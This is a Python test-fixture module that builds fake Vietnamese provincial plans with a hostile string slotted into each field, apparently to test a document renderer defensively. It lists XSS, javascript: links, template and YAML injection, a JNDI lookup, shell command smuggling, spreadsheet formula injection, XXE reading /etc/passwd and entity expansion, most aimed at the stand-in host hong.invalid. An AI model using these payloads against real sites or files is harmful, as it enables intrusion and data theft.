"""Words that a renderer, a browser or a spreadsheet may take for more than words: one payload a row.

Every payload is put into a paper of its own, in its title, a heading, a paragraph, an item, a footnote,
a recipient and the name of the signatory (`paper`). Each tries to set `window.hong`, to open a dialog, or
to ask the host hong.invalid for something.
"""

from build_tools.intake.table_rows import Merged, table_row

HTML = (
    "<script>window.hong=1</script>",
    "<SCRIPT>window.hong=1</SCRIPT>",
    "<script src=//hong.invalid/x.js></script>",
    "</script><script>window.hong=1</script>",
    "<scr<script>ipt>window.hong=1</scr</script>ipt>",
    "<img src=x onerror=window.hong=1>",
    "<img src=http://hong.invalid/a.png>",
    "<img srcset='http://hong.invalid/a.png 2x'>",
    "<svg onload=window.hong=1>",
    "<svg><script>window.hong=1</script></svg>",
    "<svg><animate onbegin=window.hong=1 attributeName=x dur=1s>",
    "<svg><use href='http://hong.invalid/x.svg#a'/></svg>",
    "<math><mtext><img src=x onerror=window.hong=1></mtext></math>",
    "<iframe src=javascript:parent.hong=1></iframe>",
    "<iframe srcdoc='<script>parent.hong=1</script>'></iframe>",
    "<object data=http://hong.invalid/x></object>",
    "<embed src=http://hong.invalid/x>",
    "<link rel=stylesheet href=http://hong.invalid/x.css>",
    "<style>@import url(http://hong.invalid/x.css);</style>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://hong.invalid/'>",
    "<base href=http://hong.invalid/>",
    "<form action=http://hong.invalid/><input autofocus onfocus=window.hong=1></form>",
    "<details open ontoggle=window.hong=1>",
    "<video autoplay onloadstart=window.hong=1 src=x></video>",
    "<body onload=window.hong=1>",
    "<marquee onstart=window.hong=1>x</marquee>",
    "<a href=javascript:window.hong=1>bấm</a>",
    "<a href='http://hong.invalid/' target=_blank>bấm</a>",
    "<b>đậm</b><i>nghiêng</i><!-- ẩn --><![CDATA[x]]><?php phá(); ?><!DOCTYPE x>",
    "<!--><img src=x onerror=window.hong=1>-->",
    "<p style=position:fixed;inset:0>che cả trang</p>",
    "<div class='khong-phai-nguyen-van'>chữ giấu</div>",
    "<div id='noi-dung' hidden>chữ giấu</div>",
    "<div data-pagefind-filter='loai:Giả' data-pagefind-ignore>chữ giấu</div>",
    "</div></article></main></body></html>",
    '"><img src=x onerror=window.hong=1>',
    "'><img src=x onerror=window.hong=1>",
    '" onmouseover="window.hong=1" x="',
    "' onfocus='window.hong=1' tabindex='0' autofocus x='",
    "`><img src=x onerror=window.hong=1>",
    "&lt;script&gt;window.hong=1&lt;/script&gt;",
    "&#60;script&#62;window.hong=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.hong=1&#x3e;",
    "&amp;lt;b&amp;gt; &nbsp; &copy; &#0; &#xD800; &#1114112; &notanentity;",
    "&<>\"'` &&& <<< >>> &#; &#x; & lt;",
    "<template><img src=x onerror=window.hong=1></template>",
    "<textarea><script>window.hong=1</script>",
    "<title></title><script>window.hong=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.hong=1>'>",
    "<xmp><script>window.hong=1</script></xmp>",
    "<plaintext>",
)

MARKDOWN = (
    "[bấm](javascript:window.hong=1)",
    "[bấm](JaVaScRiPt:window.hong=1)",
    "[bấm](java\tscript:window.hong=1)",
    "[bấm](vbscript:x) [bấm](data:text/html,<script>window.hong=1</script>)",
    "[bấm](//hong.invalid/) [bấm](http://hong.invalid/)",
    "[bấm](../../../../etc/passwd) [bấm](file:///etc/passwd)",
    '[bấm](# "x" onclick="window.hong=1")',
    "![ảnh](http://hong.invalid/a.png)",
    "![ảnh](x){ onerror=window.hong=1 }",
    "[chữ][nhãn] [nhãn]: javascript:window.hong=1",
    "[nhãn]: http://hong.invalid/ 'x'",
    "<javascript:window.hong=1> <http://hong.invalid/> <a@hong.invalid>",
    "http://hong.invalid/x www.hong.invalid a@hong.invalid",
    "{: #toan-van .toan-van onclick=window.hong=1 }",
    "{ #nguon data-pagefind-ignore } { .khong-phai-nguyen-van }",
    "[^1] [^1]: chú thích giả",
    "*[UBND]: chữ tắt giả",
    "[TOC] {{TOC}} [[toc]]",
    '!!! danger "Cảnh báo giả"',
    '??? note "Gập"',
    "/// admonition | giả ///",
    '=== "Thẻ"',
    '--8<-- "/etc/passwd"',
    "```python exec='on'",
    "~~~ {.python onclick=x}",
    "| a | b | |---|---|",
    "--- *** ___ === +++",
    "# ## ### ###### #######",
    "> > > trích",
    "1. 1) 4. - + * • ",
    "4. số in là bốn",
    "- [ ] việc - [x] xong",
    "*sao* **đậm** _gạch_ __dưới__ ***cả*** `mã` ~~xóa~~ ^mũ^ ==dấu== ++chèn++",
    "\\* \\\\ \\` \\[ \\< \\n",
    ":smile: :material-account: :octicons-x:",
    "$x^2$ \\(x\\) $$\\alpha$$",
    "H~2~O x^2^ (c) (tm) ... -- --- << >>",
    '<div markdown="1">*x*</div>',
    "<!-- md:option --> <!-- more -->",
    "    bốn dấu cách \t thụt",
)

TEMPLATES = (
    "{{ config }} {{ page.meta }} {{ 7*7 }}",
    "{% raw %}{% include '/etc/passwd' %}{% endraw %}",
    "{# ẩn #} {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://hong.invalid/a}",
    "%s %d %n %(x)s {0} {x!r} {x.__class__}",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03",  # how Python-Markdown marks what it has stashed away
    "\x02amp\x03 \x02hash\x03",
    "!ENV HOME !!python/object/apply:os.system ['x']",
    "$(touch hong.txt) `touch hong.txt` ; touch hong.txt | cat && x",
    "--help -rf /x @/etc/passwd",
)

CHARACTERS = (
    "\x00 byte không",  # refused as a source: see `files`
    "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1b[31mđỏ\x1b[0m\x7f",
    "\x80\x85\x9b31m C1",
    "\u202eđảo chiều \u202d \u2066x\u2069 \u200f",
    "\u2028ngắt dòng\u2029ngắt đoạn",
    "\ufeffBOM \ufffe \uffff \U0001fffe \U0010ffff",
    "a\u0300\u0301\u0302\u0303\u0309\u0323" + "\u0301" * 200,
    "\u200bkhông\u200cbề\u200drộng\u2060 \u00admềm",
    "\U000e0001\U000e0041\U000e007f nhãn ẩn",
    "\U00010400\U00010428 chữ Deseret, là chữ thế chỗ của máy",
    "ﬁ ﷺ ½ ① Ⅳ ㍿ ﹤script﹥ ＜script＞window.hong=1＜/script＞",
    "İıſK Å ẞ Σς",
    "Аdmin еmail (chữ Kirin trông như Latinh)",
    "dấu cách lạ\u00a0\u2003\u3000\u202f\u205f\u1680",
    "gạch lạ 25–NQ/TW 25—NQ/TW 25‑NQ/TW 25\u00adNQ/TW 25−NQ/TW",
    "\r\rdòng kiểu Mac\rthứ hai",
    "ngoặc “ ” ‘ ’ « » „ ‟ 〈 〉 ❮",
    "👨‍👩‍👧‍👦 🇻🇳 ✍🏽 \ue000\uf8ff",
    "Ｃhữ ｒộng ２５－ＮＱ／ＴＷ",
    "\u1160\u11a8\u1100 Hangul rời",
    "chữ Việt NFD: " + "ti\u0301ch cu\u031b\u0323c",
    "\u0301\u0323dấu mồ côi ở đầu",
    "⁰¹²³⁴⁵⁶⁷⁸⁹ ¹² ¹x ⁽¹⁾ ₁",
)

CELLS = (
    '=HYPERLINK("http://hong.invalid/";"bấm")',
    "=cmd|' /C calc'!A0",
    "+1+1 @SUM(A1) -1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '"=1+1","x",;\t|',
    "dòng một\r\n=1+1",
    "＝1+1",
)

JSON_AND_CALENDARS = (
    '"}],"hong":[{"a":"',
    "\\u003cscript\\u003ewindow.hong=1\\u003c/script\\u003e",
    "</script>]]>-->",
    "trước ngày 15 tháng 12 hằng năm\\nATTACH:http://hong.invalid/\\, \\;",
    "END:VEVENT BEGIN:VALARM ACTION:PROCEDURE",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">&b;',
)

NUMBERS = (
    "Nghị quyết số ../../../../etc/passwd-NQ/TW",
    "Nghị quyết số 25-NQ/../../TW ngày 99/99/9999",
    "Quyết định số " + "9" * 300 + "/QĐ-TTg",
    "Luật " + "Rất Dài " * 120,
    "Chỉ thị số con/CT-TTg ngày 00/00/0000",
    "Nghị quyết số 25-NQ/TW " * 40,
    "Chỉ thị số <script>window.hong=1</script>/CT-TTg",
    "Nghị quyết số 0-NQ/TW ngày 29/02/2021 và ngày 31/4/2021 và 30/02",
    "Quyết định số 1, 2, 3, 4, 5, 6, 7, 8, 9-QĐ/TW ngày 1/1/0001",
    "Nghị quyết số 25-NQ/TW ngày 3/6/999999999999",
)

LONG = (
    "dân vận " * 4_000,
    "a" * 30_000,
    "<" * 3_000 + ">" * 3_000,
    "[" * 3_000 + "](" * 100 + ")" * 3_000,
    "*_" * 3_000,
    "`" * 3_000,
    "(((" * 1_500,
    "“" * 3_000,
    "I. " * 2_000,
    "1." * 3_000,
    "¹" * 3_000,
    "| " * 3_000,
    "&amp;" * 2_000,
    " " * 20_000 + "x",
)

PAYLOADS = (
    *HTML, *MARKDOWN, *TEMPLATES, *CHARACTERS[1:], *CELLS, *JSON_AND_CALENDARS, *NUMBERS, *LONG,
)  # fmt: skip

SHAPES = (
    "\n".join("> " * depth + "trích" for depth in range(60)),
    "\n".join("  " * depth + "- mục" for depth in range(60)),
    "\n".join("#" * (1 + depth % 9) + f" tiêu đề {depth}" for depth in range(60)),
    "\n".join(".".join(["1"] * (1 + depth)) + ". mục" for depth in range(40)),
    "\n\n".join(f"Điều {number}. Điều {number}\n\na) điểm a\n\nb) điểm b" for number in range(60)),
    "\n" * 5_000 + "chữ cuối" + "\n" * 5_000,
    "\r\n".join(["dòng Windows"] * 50),
    "không có dòng nào khác",
    "|" + "|".join(f"cột {n}" for n in range(200)) + "|\n" + "|---" * 200 + "|\n" + "|x" * 200 + "|",
    "Nơi nhận:\n" * 50 + "- x;\n" * 50,
    "CHỦ TỊCH\n\nNguyễn Văn A\n\n" * 20,
    "¹ chú thích\n² chú thích\n" * 40,
    "```\n<script>window.hong=1</script>\n```\n~~~\nx\n",
    "---\ntitle: giả\nchuyen_den: http://hong.invalid/\n---\n# x\n",
    "<div>\n\n<script>\nwindow.hong=1\n</script>\n\n</div>\n",
    "Kính gửi:\n" * 30,
    "PHỤ LỤC\n(Kèm theo)\n" * 30,
    # A table is HTML that we write ourselves: its words must do as little there.
    "\n".join(table_row([("TT",), (word,), (word, "x")]) for word in (*HTML, *MARKDOWN, *TEMPLATES, *CELLS)),
    "BÁO CÁO\nBÁO CÁO\nBÁO CÁO\n" * 10,
    "\n".join(table_row([(sign,), Merged.LEFT, (sign, sign)]) for sign in ("<", "^", "|", "\\", "<br>") * 9),
)
"""Whole papers whose form is the trouble."""

_FRAME = """\
ỦY BAN NHÂN DÂN
TỈNH ĐIỆN BIÊN

Số: {number}/KH-UBND
Điện Biên, ngày 03 tháng 4 năm 2022

KẾ HOẠCH
Về {payload}

I. {payload}

1. Thực hiện Chỉ thị số 33/CT-TTg ngày 26/11/2021 của Thủ tướng Chính phủ về {payload}¹ và công tác dân vận.

- {payload}

{payload}

{payload} gửi báo cáo về Sở Nội vụ trước ngày 15 tháng 12 hằng năm.

¹ {payload}

Nơi nhận:
- {payload};
- Lưu: VT.

CHỦ TỊCH

{payload}
"""


def papers() -> dict[str, str]:
    """Every text that an archive may hold, by id: each payload in its paper, each shape as it is."""
    made = {
        f"pha-{index:03}": _FRAME.replace("{number}", str(9000 + index)).replace("{payload}", payload)
        for index, payload in enumerate(PAYLOADS)
    }
    return made | {f"hinh-{index:03}": text for index, text in enumerate(SHAPES)}
